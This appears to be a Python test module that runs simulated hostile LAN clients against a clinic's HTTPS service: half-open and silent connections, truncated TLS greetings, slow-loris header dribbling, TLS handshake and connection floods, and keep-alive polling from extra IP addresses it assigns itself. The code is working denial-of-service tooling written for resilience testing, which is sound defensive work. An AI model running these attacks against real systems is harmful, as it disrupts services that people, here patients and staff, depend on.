"""Hostile PCs on the LAN, each a program of its own: `python -m tests.lan.attackers KIND HOST PORT SECONDS MANY`."""

import contextlib
import os
import selectors
import socket
import ssl
import subprocess
import sys
import threading
import time

HALF = b"GET /sign-in HTTP/1.1\r\nHost: clinic\r\n"
Lines = list[socket.socket]


def silent(host: str, port: int, until: float, many: int) -> None:
    """Half open: connects and never says a word, again whenever it is cut."""
    _hold(host, port, until, many, b"")


def half_hello(host: str, port: int, until: float, many: int) -> None:
    """The beginning of a TLS greeting, and no more."""
    _hold(host, port, until, many, b"\x16\x03\x01\x02\x00\x01\x00\x01")


def loris(host: str, port: int, until: float, many: int) -> None:
    """Slow-loris: through TLS one header line after the other, never the last."""
    lines: Lines = []
    while time.monotonic() < until:
        while len(lines) < many:
            one = _greeted(host, port)
            if one is None:
                break
            lines.append(one)
        for one in list(lines):
            try:
                one.sendall(b"X-Slow: 1\r\n")
            except OSError:
                lines.remove(one)
        time.sleep(0.5)


def flood(host: str, port: int, until: float, many: int) -> None:
    """As many new TLS greetings as this PC can make, none of them ever used."""

    def run() -> None:
        while time.monotonic() < until:
            one = _greeted(host, port)
            if one is not None:
                one.close()

    _all([threading.Thread(target=run) for _ in range(min(many, 8))])


def polls(host: str, port: int, until: float, many: int) -> None:
    """Whole requests, one after the other on connections that stay, from as many addresses as it needs for `many`."""
    own = [f"{host.rpartition('.')[0]}.{100 + number}" for number in range(8)]
    for address in own:
        subprocess.run(["ip", "address", "add", f"{address}/24", "dev", "lan0"], capture_output=True, check=False)
    lines: Lines = []
    while time.monotonic() < until:
        for number in range(many - len(lines)):
            one = _greeted(host, port, own[number % len(own)], b"GET /pair HTTP/1.1\r\nHost: clinic\r\n\r\n")
            if one is None:
                break
            lines.append(one)
        for one in list(lines):
            try:
                one.sendall(b"GET /pair HTTP/1.1\r\nHost: clinic\r\n\r\n")
            except OSError:
                lines.remove(one)
        time.sleep(0.5)


def connects(host: str, port: int, until: float, many: int) -> None:
    """As many new connections as this PC can make, hung up at once."""

    def run() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                socket.create_connection((host, port), timeout=1).close()

    _all([threading.Thread(target=run) for _ in range(min(many, 4))])


def _all(threads: list[threading.Thread]) -> None:
    for one in threads:
        one.start()
    for one in threads:
        one.join()


def _hold(host: str, port: int, until: float, many: int, first: bytes) -> None:
    watch = selectors.DefaultSelector()
    held = 0
    while time.monotonic() < until:
        while held < many:
            try:
                one = socket.create_connection((host, port), timeout=1)
                one.sendall(first)
            except OSError:
                break
            one.setblocking(False)
            watch.register(one, selectors.EVENT_READ)
            held += 1
        for key, _ in watch.select(0.1):
            line = key.fileobj
            assert isinstance(line, socket.socket)
            with contextlib.suppress(OSError):
                if line.recv(4096):
                    continue
            watch.unregister(line)
            line.close()
            held -= 1


def _greeted(host: str, port: int, own: str = "", said: bytes = HALF) -> ssl.SSLSocket | None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        bare = socket.create_connection((host, port), timeout=1, source_address=(own, 0))
        one = context.wrap_socket(bare)
        one.sendall(said)
    except OSError:
        return None
    return one


KINDS = {one.__name__: one for one in (silent, half_hello, loris, flood, connects, polls)}

if __name__ == "__main__":
    os.nice(15)  # its own PC would take no time of the clinic's
    kind, host, port, seconds, many = sys.argv[1:6]
    KINDS[kind](host, int(port), time.monotonic() + float(seconds), int(many))
